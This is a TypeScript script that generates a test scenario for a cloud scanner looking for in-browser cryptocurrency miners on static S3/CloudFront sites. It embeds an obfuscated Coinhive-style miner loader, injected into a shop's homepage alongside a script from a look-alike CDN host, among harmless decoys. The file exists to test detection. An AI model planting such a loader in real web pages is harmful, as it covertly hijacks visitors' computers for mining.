/**
 * Generates scenarios/web-miner-site/snapshot.json: an online shop whose static site (S3 website
 * bucket behind CloudFront) had an obfuscated in-browser miner loader planted in its homepage by a
 * leaked deploy key, about seven hours before the audit. Run: `npx tsx scripts/scenarios/web-miner-site.ts`.
 *
 * The pages are written out in full here and passed through the collector's own analysis
 * (analyzeWebText), so the snapshot holds exactly what a real scan would keep: script sources,
 * redacted excerpts, decoded literals, WebAssembly and WebSocket references; never the pages.
 *
 * Around the planted loader, look-alikes that must stay quiet: a 2019 blog post about Coinhive's
 * shutdown (with a code sample), a 1.4 MB analytics bundle full of throttle(), atob() and a
 * WebSocket, and an image tool that runs WebAssembly (mozjpeg, resize). A 3.2 MB vendor bundle is
 * over the size cap, a campaign site is not in the scan list, and an Amplify app cannot be scanned:
 * all three are coverage, as in a real run.
 *
 * Deterministic: no clock, no Math.random (the bundle's filler comes from a seeded stream).
 */
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { analyzeWebText, type WebFileKind } from "../../lambda/collect/web-text.js";
import type { WebObject, WebSite } from "../../lambda/core/sections/web-content.js";
import {
  type AccountSnapshot,
  AccountSnapshotSchema,
  type CoverageEntry,
  SNAPSHOT_SCHEMA_VERSION,
} from "../../lambda/core/snapshot.js";
import { hoursBefore, Rng, seedFrom, writeCompactJson } from "./lib.js";

export const ACCOUNT_ID = "210987654321";
export const WINDOW_END = "2026-11-24T06:00:00.000Z";
const COLLECTED_AT = "2026-11-24T06:02:10.000Z";
const PREVIOUS_RUN = "2026-11-23T06:02:05.000Z";
/** When the leaked deploy key overwrote index.html. */
const PLANTED_AT = "2026-11-23T23:04:51.000Z";

export const SHOP_BUCKET = "www.example-shop.com";
export const TOOLS_BUCKET = "tools.example-shop.com";
const CAMPAIGN_BUCKET = "campaign-2025.example-shop.com";
const REGION = "eu-west-1";
export const SHOP_DISTRIBUTION = "E2Q4N8ZK5TR1VY";
const TOOLS_DISTRIBUTION = "E1M7B3XW9PL2HC";
/** The third-party host the attacker added next to the loader. */
export const INJECTED_SCRIPT = "https://cdn.jsdelivr-static.net/npm/perf-metrics@2.1.0/dist/pm.min.js";

const OUTPUT = join(dirname(fileURLToPath(import.meta.url)), "../../scenarios/web-miner-site/snapshot.json");

const REGIONS = [
  "us-east-1",
  "us-east-2",
  "us-west-1",
  "us-west-2",
  "ca-central-1",
  "sa-east-1",
  "eu-west-1",
  "eu-west-2",
  "eu-west-3",
  "eu-central-1",
  "eu-north-1",
  "ap-south-1",
  "ap-northeast-1",
  "ap-northeast-2",
  "ap-northeast-3",
  "ap-southeast-1",
  "ap-southeast-2",
];

const GTAG = "https://www.googletagmanager.com/gtag/js?id=G-7QX2L9MB4T";

const HEAD = `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Example Shop - handmade ceramics</title>
<link rel="stylesheet" href="/css/site.css">
<script async src="${GTAG}"></script>
<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments)}gtag("js",new Date());gtag("config","G-7QX2L9MB4T");</script>
<script defer src="/js/app.js"></script>`;

const INDEX_BEFORE_BODY = `</head>
<body>
<header><a href="/"><img src="/img/logo.svg" alt="Example Shop"></a><nav><a href="/shop/">Shop</a><a href="/blog/">Journal</a><a href="/contact.html">Contact</a></nav></header>
<main>
<section class="hero"><h1>Handmade ceramics from Porto</h1><p>Small batches, glazed by hand, shipped across Europe.</p><a class="button" href="/shop/">Browse the collection</a></section>
<section class="featured" id="featured"></section>
</main>
<footer><p>&copy; 2026 Example Shop Lda.</p></footer>
</body>
</html>
`;

/**
 * The planted loader, in the style of real cryptojacking injections: an array of hex- and
 * base64-encoded strings, a script element built from them, and a miner object started with a
 * site key and a throttle, its class name spelled with String.fromCharCode.
 */
const PLANTED_LOADER = `<script async src="${INJECTED_SCRIPT}"></script>
<script>(function(){var _0x3f=["\\x63\\x72\\x65\\x61\\x74\\x65\\x45\\x6c\\x65\\x6d\\x65\\x6e\\x74","c2NyaXB0","aHR0cHM6Ly9jb2luaGl2ZS5jb20vbGliL2NvaW5oaXZlLm1pbi5qcw=="];var d=document,s=d[_0x3f[0]](atob(_0x3f[1]));s.src=atob(_0x3f[2]);s.onload=function(){var m=new window[String.fromCharCode(67,111,105,110,72,105,118,101)].Anonymous("pXTq2Fz8kB4mN7cR1vW9yL3hJ6dG5sA0",{throttle:0.3});if(!m.isMobile()){m.start()}};d.head.appendChild(s)})();</script>`;

const INDEX_BEFORE = `${HEAD}\n${INDEX_BEFORE_BODY}`;
const INDEX_NOW = `${HEAD}\n${PLANTED_LOADER}\n${INDEX_BEFORE_BODY}`;

const BLOG_POST = `${HEAD}
</head>
<body>
<article>
<h1>Why your browser stopped mining for strangers</h1>
<p class="date">15 March 2019</p>
<p>Coinhive, the service that let websites mine Monero with their visitors' CPUs, shuts down this month.
Its script (coinhive.min.js) was found on thousands of hacked sites, and copies such as CryptoLoot,
CoinImp and authedmine.com followed. We never ran it, and never will: our pages load only our own
code and Google Analytics.</p>
<p>For the curious, this is what a site owner would paste to start mining:</p>
<pre><code>var miner = new CoinHive.Anonymous('YOUR_SITE_KEY', {throttle: 0.3});
miner.start();</code></pre>
<p>If you ever see a line like this in a page you did not write, tell us.</p>
</article>
</body>
</html>
`;

const RESIZE_PAGE = `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Photo resizer for product shots</title>
<script type="module" src="/tools/resize.js"></script>
</head>
<body><h1>Resize and compress product photos</h1><input type="file" id="files" multiple accept="image/*"><canvas id="preview"></canvas></body>
</html>
`;

const RESIZE_SCRIPT = `import initResize, { resize } from "./squoosh_resize.js";
import mozjpeg from "./mozjpeg_enc.js";

// Both codecs are WebAssembly builds from the Squoosh project: image work stays in the browser.
const ready = Promise.all([
  initResize(fetch("/tools/squoosh_resize_bg.wasm")),
  WebAssembly.instantiateStreaming(fetch("/tools/mozjpeg_enc.wasm"), {}),
]);

export async function shrink(file, width) {
  await ready;
  const bitmap = await createImageBitmap(file);
  const pixels = resize(bitmap, width, Math.round((bitmap.height * width) / bitmap.width), 3, true, true);
  return mozjpeg.encode(pixels, width, { quality: 78, progressive: true });
}
`;

/** A large first-party analytics bundle (about 1.4 MB): modules of ordinary tracking code. */
function analyticsBundle(): string {
  const rng = new Rng(seedFrom("analytics-bundle"));
  const parts = [
    `/*! example-shop analytics 4.12.0 | (c) Example Shop Lda. */`,
    `function throttle(fn,wait){var last=0,timer;return function(){var now=Date.now(),args=arguments,ctx=this;clearTimeout(timer);if(now-last>=wait){last=now;fn.apply(ctx,args)}else{timer=setTimeout(function(){last=Date.now();fn.apply(ctx,args)},wait-(now-last))}}}`,
    `var config=JSON.parse(atob("eyJlbmRwb2ludCI6Ii9jb2xsZWN0Iiwic2FtcGxlUmF0ZSI6MC4yNSwiYmF0Y2giOjIwfQ=="));`,
    `function utf8Decode(bytes){return decodeURIComponent(escape(String.fromCharCode.apply(null,bytes)))}`,
    `var live=null;function connectLive(){try{live=new WebSocket("wss://rt.example-shop.com/collect");live.onclose=function(){setTimeout(connectLive,5000)}}catch(e){live=null}}`,
    `window.addEventListener("scroll",throttle(function(){track("scroll",{depth:Math.round(100*window.scrollY/document.body.scrollHeight)})},500));`,
  ];
  const events = ["view_item", "add_to_cart", "begin_checkout", "purchase", "search", "select_promotion"];
  let size = parts.join("\n").length;
  for (let k = 0; size < 1_400_000; k++) {
    const event = rng.pick(events);
    const module = `function m${k}_${rng.hex(6)}(e,t){var n=t||{};n.event="${event}";n.ts=Date.now();n.id="${rng.hex(12)}";n.page=location.pathname;n.ref=document.referrer;if(n.value!==undefined){n.value=Math.round(n.value*100)/100}return queue.push(n),queue.length>=config.batch&&flush(),n}`;
    parts.push(module);
    size += module.length + 1;
  }
  return parts.join("\n");
}

function analyzed(
  bucket: string,
  key: string,
  text: string,
  meta: { lastModified: string; versionId?: string; etag: string; distributionId: string; domains: string[] },
): WebObject {
  const kind: WebFileKind = key.endsWith(".js") ? "script" : "html";
  return {
    bucket,
    key,
    region: REGION,
    contentType: kind === "html" ? "text/html" : "application/javascript",
    size: Buffer.byteLength(text, "utf8"),
    lastModified: meta.lastModified,
    ...(meta.versionId ? { versionId: meta.versionId } : {}),
    etag: meta.etag,
    distributionIds: [meta.distributionId],
    siteDomains: [
      bucket,
      `${bucket}.s3-website-${REGION}.amazonaws.com`,
      `${bucket}.s3-website.${REGION}.amazonaws.com`,
      `${bucket}.s3.${REGION}.amazonaws.com`,
      `${bucket}.s3.amazonaws.com`,
      ...meta.domains,
    ],
    ...analyzeWebText(text, kind),
  };
}

export function buildWebMinerSite(): AccountSnapshot {
  const shopDomains = ["d3k2x9q1w8e7r6.cloudfront.net", "www.example-shop.com", "example-shop.com"];
  const toolsDomains = ["d1p0o9i8u7y6t5.cloudfront.net", "tools.example-shop.com"];
  const shop = (key: string, text: string, lastModified: string, versionId: string | undefined, etag: string) =>
    analyzed(SHOP_BUCKET, key, text, {
      lastModified,
      versionId,
      etag,
      distributionId: SHOP_DISTRIBUTION,
      domains: shopDomains,
    });
  const tools = (key: string, text: string, lastModified: string, versionId: string, etag: string) =>
    analyzed(TOOLS_BUCKET, key, text, {
      lastModified,
      versionId,
      etag,
      distributionId: TOOLS_DISTRIBUTION,
      domains: toolsDomains,
    });

  const objects: WebObject[] = [
    shop("index.html", INDEX_NOW, PLANTED_AT, "Yq0dD8rRcfXn2hWk3ZlT5uVbN1mJ7sGa", '"5d41402abc4b2a76b9719d911017c592"'),
    shop(
      "blog/2019/03/coinhive-shuts-down.html",
      BLOG_POST,
      "2019-03-15T09:12:44.000Z",
      // Written before versioning was turned on for the bucket: no version id.
      undefined,
      '"7215ee9c7d9dc229d2921a40e899ec5f"',
    ),
    shop(
      "assets/analytics.bundle.js",
      analyticsBundle(),
      "2026-10-02T14:21:07.000Z",
      "Lm3kP9xQ2wE4rT6yU8iO0pA1sD3fG5hJ",
      '"e4d909c290d0fb1ca068ffaddf22cbd0"',
    ),
    tools(
      "tools/resize.html",
      RESIZE_PAGE,
      "2026-06-11T10:40:00.000Z",
      "bV7nM2cX4zL6kJ8hG0fD1sA3qW5eR9tY",
      '"0cc175b9c0f1b6a831c399e269772661"',
    ),
    tools(
      "tools/resize.js",
      RESIZE_SCRIPT,
      "2026-06-11T10:40:00.000Z",
      "hG4jK6lZ8xC0vB2nM4qW6eR8tY0uI2oP",
      '"92eb5ffee6ae2fec3ad71c777531578f"',
    ),
  ];

  const unsorted: WebSite[] = [
    {
      kind: "s3-website",
      bucket: SHOP_BUCKET,
      region: REGION,
      domains: [`${SHOP_BUCKET}.s3-website-${REGION}.amazonaws.com`],
      scanned: true,
    },
    {
      kind: "cloudfront-origin",
      bucket: SHOP_BUCKET,
      region: REGION,
      distributionId: SHOP_DISTRIBUTION,
      domains: shopDomains,
      scanned: true,
    },
    {
      kind: "s3-website",
      bucket: TOOLS_BUCKET,
      region: REGION,
      domains: [`${TOOLS_BUCKET}.s3-website-${REGION}.amazonaws.com`],
      scanned: true,
    },
    {
      kind: "cloudfront-origin",
      bucket: TOOLS_BUCKET,
      region: REGION,
      distributionId: TOOLS_DISTRIBUTION,
      domains: toolsDomains,
      scanned: true,
    },
    {
      kind: "s3-website",
      bucket: CAMPAIGN_BUCKET,
      region: REGION,
      domains: [`${CAMPAIGN_BUCKET}.s3-website-${REGION}.amazonaws.com`],
      scanned: false,
      note: "not in webScan.buckets",
    },
    {
      kind: "amplify-app",
      region: REGION,
      appId: "d2x8c4v6b1n3m5",
      appName: "partner-portal",
      domains: ["d2x8c4v6b1n3m5.amplifyapp.com"],
      scanned: false,
      note: "Amplify Hosting content is not scanned: the Amplify API offers no download of deployed artifacts",
    },
  ];
  const sites = unsorted.sort(
    (a, b) =>
      (a.bucket ?? a.appId ?? "").localeCompare(b.bucket ?? b.appId ?? "") ||
      (a.distributionId ?? "").localeCompare(b.distributionId ?? ""),
  );

  const previous = (o: WebObject, before: string) =>
    [objectUriOf(o), analyzeWebText(before, "html").scriptSources] as const;
  const previousScriptSources = {
    collectedAt: PREVIOUS_RUN,
    byObject: Object.fromEntries([
      previous(objects[0] as WebObject, INDEX_BEFORE),
      previous(objects[1] as WebObject, BLOG_POST),
      previous(objects[3] as WebObject, RESIZE_PAGE),
    ]),
  };

  const coverage: CoverageEntry[] = [
    ...REGIONS.map((region): CoverageEntry => ({ region, service: "ec2", api: "DescribeInstances", status: "ok" })),
    ...REGIONS.map(
      (region): CoverageEntry =>
        region === REGION
          ? {
              region,
              service: "amplify",
              api: "hosted-content",
              status: "skipped",
              reason: "not-requested",
              message:
                "1 Amplify Hosting app(s) not scanned for in-browser miners (partner-portal d2x8c4v6b1n3m5.amplifyapp.com): the Amplify API offers no download of what an app serves; scan the app's repository or build output instead",
            }
          : { region, service: "amplify", api: "ListApps", status: "ok" },
    ),
    { region: "global", service: "cloudfront", api: "ListDistributions", status: "ok" },
    { region: "global", service: "s3", api: "GetBucketWebsite", status: "ok" },
    { region: "global", service: "s3", api: "ListBuckets", status: "ok" },
    {
      region: "global",
      service: "s3",
      api: "web-scan",
      status: "skipped",
      reason: "not-requested",
      message: `1 site bucket(s) not in webScan.buckets were not scanned for in-browser miners: ${CAMPAIGN_BUCKET}`,
    },
    {
      region: REGION,
      service: "s3",
      api: `web-scan:${SHOP_BUCKET}`,
      status: "partial",
      reason: "not-requested",
      message: `1 HTML/JavaScript object(s) in ${SHOP_BUCKET} larger than 2.0 MB not read (raise webScan.maxObjectBytes): assets/vendor.bundle.js (3.2 MB)`,
    },
    {
      region: REGION,
      service: "s3",
      api: `web-scan:${SHOP_BUCKET}`,
      status: "ok",
      message: "read 3 of 3 HTML/JavaScript object(s); 41 other object(s) are not HTML or JavaScript",
    },
    {
      region: REGION,
      service: "s3",
      api: `web-scan:${TOOLS_BUCKET}`,
      status: "ok",
      message: "read 2 of 2 HTML/JavaScript object(s); 2 other object(s) are not HTML or JavaScript",
    },
  ];

  return AccountSnapshotSchema.parse({
    schemaVersion: SNAPSHOT_SCHEMA_VERSION,
    accountId: ACCOUNT_ID,
    collectedAt: COLLECTED_AT,
    window: { start: hoursBefore(WINDOW_END, 24), end: WINDOW_END },
    source: {
      tool: "minewatch",
      kind: "scenario",
      description:
        "Generated by scripts/scenarios/web-miner-site.ts: a static shop site on S3 and CloudFront whose index.html gained an obfuscated Coinhive-style loader.",
    },
    regions: REGIONS.map((name) => ({ name, optInStatus: "opt-in-not-required" })),
    coverage: coverage.sort(
      (a, b) => a.region.localeCompare(b.region) || a.service.localeCompare(b.service) || a.api.localeCompare(b.api),
    ),
    webContent: {
      objectBudget: 500,
      objectsScanned: objects.length,
      sites,
      objects: objects.sort((a, b) => a.bucket.localeCompare(b.bucket) || a.key.localeCompare(b.key)),
      previousScriptSources,
    },
  });
}

function objectUriOf(object: WebObject): string {
  return `s3://${object.bucket}/${object.key}`;
}

if (process.argv[1] && fileURLToPath(import.meta.url) === process.argv[1]) {
  const bytes = writeCompactJson(OUTPUT, buildWebMinerSite());
  console.log(`wrote ${OUTPUT} (${bytes} bytes)`);
}
